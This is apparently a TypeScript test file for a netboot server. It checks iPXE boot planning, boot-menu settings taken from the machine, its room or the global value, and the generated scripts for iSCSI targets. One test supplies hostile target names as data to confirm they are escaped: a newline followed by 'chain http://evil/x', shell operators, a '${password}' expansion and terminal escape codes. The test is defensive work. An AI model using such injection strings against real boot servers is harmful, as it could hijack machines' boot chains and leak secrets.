// biome-ignore-all lint/suspicious/noTemplateCurlyInString: "${...}" in these strings is iPXE syntax
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import pino from "pino";
import t from "tap";
import { PLAIN_SANBOOT, planBoot } from "../../src/netboot/boot-plan.js";
import { type BootScriptDeps, scriptFor } from "../../src/netboot/boot-script.js";
import { menuSettings } from "../../src/netboot/menu-settings.js";
import { loadTemplates } from "../../src/netboot/script/render.js";
import { Store } from "../../src/store/index.js";
import type { Machine } from "../../src/store/machines.js";
import { readyDisk } from "./ready-disk.js";

// A machine with several targets boots through a menu of them: planBoot decides, the
// script says it with every name as text, and its settings come from the machine, else its
// room, else the global setting.

const IPXE_DIR = join(import.meta.dirname, "../../ipxe");
const SERVER = "10.99.0.1";
const log = pino({ level: "silent" });

function machine(over: Partial<Machine> = {}): Machine {
  return {
    id: 1,
    name: "pc",
    status: "active",
    boot_action: "sanboot",
    location_id: null,
    default_target_id: null,
    menu_timeout_seconds: null,
    menu_local_disk: null,
    ...over,
  } as Machine;
}

t.test("planBoot: one target a plain sanboot, several a menu", async (t) => {
  const one = { activeTargets: 1, localDiskEntry: false };
  const two = { activeTargets: 2, localDiskEntry: false };
  const twoLocal = { activeTargets: 2, localDiskEntry: true };
  t.same(planBoot(machine(), {}, one), { boot: "sanboot" }, "one target: no menu");
  t.same(planBoot(machine(), {}, PLAIN_SANBOOT), { boot: "sanboot" }, "the DHCP side's facts");
  t.same(planBoot(machine(), {}, { activeTargets: 0, localDiskEntry: false }), {
    boot: "sanboot",
  });
  t.same(planBoot(machine(), {}, two), { boot: "menu" }, "two targets: a menu");
  t.same(planBoot(machine(), { targetId: 7 }, two), { boot: "sanboot", targetId: 7 }, "chosen");
  t.same(planBoot(machine({ boot_action: "menu" }), {}, one), { boot: "menu" }, "menu action");
  t.same(
    planBoot(machine(), { local: true }, twoLocal),
    { boot: "local", reason: "chosen in the menu" },
    "the local disk, where the menu offers it",
  );
  t.same(planBoot(machine(), { local: true }, two), { boot: "menu" }, "not offered: no choice");
  t.same(
    planBoot(machine(), { local: true }, { activeTargets: 1, localDiskEntry: true }),
    { boot: "sanboot" },
    "one target has no menu, so no local-disk entry either",
  );
  t.same(
    planBoot(machine({ boot_action: "menu" }), { local: true }, one),
    { boot: "local", reason: "chosen in the menu" },
    "the menu action always offers the local disk",
  );
  t.same(
    planBoot(machine({ status: "maintenance" }), { targetId: 7 }, two).boot,
    "local",
    "a machine out of service boots locally whatever the choice",
  );
  t.same(planBoot(machine({ status: "discovered" }), {}, two), { boot: "discovery" });
});

t.test("menu settings: the machine, else its room, else the global one", async (t) => {
  const room = { menu_timeout_seconds: 5, menu_local_disk: 1 };
  const none = { menu_timeout_seconds: null, menu_local_disk: null };
  const m = (timeout: number | null, local: number | null) =>
    machine({ menu_timeout_seconds: timeout, menu_local_disk: local, default_target_id: 9 });
  t.match(menuSettings(m(30, 0), room, 10), {
    timeoutSeconds: 30,
    timeoutFrom: "machine",
    localDisk: false,
    localDiskFrom: "machine",
    defaultTargetId: 9,
  });
  t.match(menuSettings(m(null, null), room, 10), {
    timeoutSeconds: 5,
    timeoutFrom: "location",
    localDisk: true,
    localDiskFrom: "location",
  });
  t.match(menuSettings(m(null, null), none, 10), {
    timeoutSeconds: 10,
    timeoutFrom: "global",
    localDisk: false,
  });
  t.match(menuSettings(m(null, null), undefined, 12), { timeoutSeconds: 12, localDisk: false });
  t.match(menuSettings(m(null, 1), none, 10), { localDisk: true, localDiskFrom: "machine" });
});

/** A store with one machine and `labels.length` targets; scriptFor over it. */
async function fixture(
  tt: { teardown(fn: () => void): void },
  targets: { description?: string; image?: string }[],
) {
  const dir = mkdtempSync(join(tmpdir(), `bf-menu-${process.pid}-`));
  tt.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const store = Store.open({ path: join(dir, "bootfleet.db"), busyTimeoutMs: 2000 });
  tt.teardown(() => store.close());
  const mac = "52:54:00:bf:71:01";
  const m = store.machines.create({
    name: "lab-pc",
    mac_address: mac,
    status: "active",
    boot_action: "sanboot",
  });
  const ids = targets.map((spec, i) => {
    const image = store.images.create({
      name: spec.image ?? `image ${i}`,
      filename: `i${i}.raw`,
      status: "ready",
    });
    return store.targets.create({
      name: `lab-pc-t${i}`,
      description: spec.description ?? "",
      iqn: `iqn.2024-01.io.bootfleet:lab-pc:t${i}`,
      portal_ip: SERVER,
      machine_id: m.id,
      system_image_id: image.id,
      initiator_iqn: "iqn.2024-01.io.bootfleet:client-525400bf7101",
      chap_username: `bf-lab-pc_t${i}`,
      chap_password: `secret-secret-${i}`,
      is_active: 1,
    }).id;
  });
  const prepared: number[] = [];
  const deps: BootScriptDeps = {
    store,
    log,
    templates: await loadTemplates(IPXE_DIR),
    scriptUrl: (mac, query) =>
      `http://${SERVER}/boot/${mac.replace(/:/g, "")}/tok${query ? `?${query}` : ""}`,
    fileUrl: (id, name) => `http://${SERVER}/boot/files/${id}/${name}`,
    kernelCmdline: () => "",
    menuTimeoutSeconds: 10,
    sanboot: readyDisk(SERVER, (id) => prepared.push(id)),
  };
  const script = (choice = {}) => scriptFor(deps, mac, store.machines.get(m.id)!, choice);
  return { store, machineId: m.id, ids, script, prepared };
}

/** The menu's entries as the script declares them: label text (decoded) and URL. */
function entries(text: string) {
  const labels = [...text.matchAll(/^set bf-item-(\d+):hex ([0-9a-f:]+)$/gm)].map((m) =>
    Buffer.from(m[2]!.replaceAll(":", ""), "hex").toString("utf8"),
  );
  const urls = [...text.matchAll(/^chain --replace --autofree (\S+) \|\| goto bf-failed$/gm)].map(
    (m) => m[1]!,
  );
  const choose = /^choose --default bf-item-(\d+) --timeout (\d+) bf-choice/m.exec(text);
  return {
    labels,
    urls,
    defaultIndex: Number(choose?.[1]),
    timeoutMs: Number(choose?.[2]),
  };
}

t.test("one target: the plain sanboot, exactly as before menus", async (t) => {
  const f = await fixture(t, [{ description: "Work" }]);
  const r = await f.script();
  t.equal(r.kind, "sanboot");
  t.notMatch(r.text, /^(menu|choose|item)\b/m, "no menu in it");
  t.match(
    r.text,
    /^sanboot --drive 0x80 iscsi:10\.99\.0\.1::3260:1:iqn\.2024-01\.io\.bootfleet:lab-pc:t0 /m,
  );
  t.same(f.prepared, [f.ids[0]], "its one target prepared");
});

t.test("two targets: a menu of them, each entry its own target", async (t) => {
  const f = await fixture(t, [{ description: "Windows 11 (work)" }, { image: "Debian 12" }]);
  const r = await f.script();
  t.equal(r.kind, "menu");
  t.same(f.prepared, [], "showing the menu prepares no disk and rotates no secret");
  t.notMatch(r.text, /secret-secret/, "and holds no secret");
  const e = entries(r.text);
  t.same(e.labels, ["Windows 11 (work)", "Debian 12"], "description, else the image's name");
  t.same(e.urls, [
    `http://${SERVER}/boot/525400bf7101/tok?target=${f.ids[0]}`,
    `http://${SERVER}/boot/525400bf7101/tok?target=${f.ids[1]}`,
  ]);
  t.equal(e.defaultIndex, 0, "no default set: the first target");
  t.equal(e.timeoutMs, 10_000, "the global time-out");

  for (const [i, id] of f.ids.entries()) {
    const chosen = await f.script({ targetId: id });
    t.equal(chosen.kind, "sanboot", `entry ${i}`);
    t.match(chosen.text, `booting from iSCSI target iqn.2024-01.io.bootfleet:lab-pc:t${i} `);
    t.match(chosen.text, new RegExp(`^set password:hex ${hex(`secret-secret-${i}`)}$`, "m"));
  }
  t.same(f.prepared, f.ids, "each entry prepared its own target");
});

t.test("default entry, time-out precedence and the local-disk entry", async (t) => {
  const f = await fixture(t, [{}, {}, {}]);
  const { store } = f;
  const room = store.locations.create({ name: "lab 3" });
  store.machines.update(f.machineId, { location_id: room.id, default_target_id: f.ids[2]! });
  let e = entries((await f.script()).text);
  t.equal(e.defaultIndex, 2, "the machine's default target");
  t.equal(e.timeoutMs, 10_000, "neither machine nor room: global");
  t.equal(e.labels.length, 3, "no local-disk entry unless asked");

  store.locations.update(room.id, { menu_timeout_seconds: 4, menu_local_disk: 1 });
  e = entries((await f.script()).text);
  t.equal(e.timeoutMs, 4_000, "the room's time-out");
  t.equal(e.labels[3], "Boot from the local disk", "the room asks for the local disk");
  t.match(e.urls[3], /\?local=1$/);
  t.equal((await f.script({ local: true })).kind, "local", "and that entry boots it");

  store.machines.update(f.machineId, { menu_timeout_seconds: 45, menu_local_disk: 0 });
  e = entries((await f.script()).text);
  t.equal(e.timeoutMs, 45_000, "the machine's own time-out wins");
  t.equal(e.labels.length, 3, "the machine turns the local-disk entry off");
  t.equal((await f.script({ local: true })).kind, "menu", "a local choice it does not offer");

  store.targets.update(f.ids[2]!, { is_active: 0 });
  e = entries((await f.script()).text);
  t.equal(e.labels.length, 2, "an inactive target is not in the menu");
  t.equal(e.defaultIndex, 0, "a default that is not active falls back to the first");
  store.targets.delete(f.ids[2]!);
  t.equal(store.machines.get(f.machineId)?.default_target_id, null, "deleting it clears it");
});

t.test("hostile names are shown as text, never run", async (t) => {
  const hostile = [
    "A\nchain http://evil/x",
    "B && shell || reboot ; # ${password}",
    "C ${bf-item-0:string} --timeout 0",
    "\u001b[2J\u001b[HD fake prompt",
  ];
  const f = await fixture(t, [
    { description: hostile[0] },
    { description: hostile[1] },
    { image: hostile[2] },
    { description: hostile[3] },
  ]);
  const r = await f.script();
  const e = entries(r.text);
  t.same(
    e.labels,
    [
      "A?chain http://evil/x",
      "B && shell || reboot ; # $ {password}",
      "C $ {bf-item-0:string} --timeout 0",
      "?[2J?[HD fake prompt",
    ],
    "control characters shown as ?, ${ cannot expand",
  );
  for (const h of hostile) {
    for (const line of h.split("\n").filter((l) => l.length > 5)) {
      t.notOk(r.text.includes(line), `not in the script: ${line}`);
    }
  }
  t.match(r.text, /^goto \$\{bf-choice\}$/m, "the choice jumps only to the script's own labels");
  const long = await fixture(t, [{ description: "\u00fc".repeat(300) }, {}]);
  const label = entries((await long.script()).text).labels[0]!;
  t.equal(Array.from(label).length, 48, "a long label is cut to one menu line");
  t.ok(label.endsWith("\u2026"));
});

function hex(s: string): string {
  return Array.from(Buffer.from(s), (b) => b.toString(16).padStart(2, "0")).join(":");
}
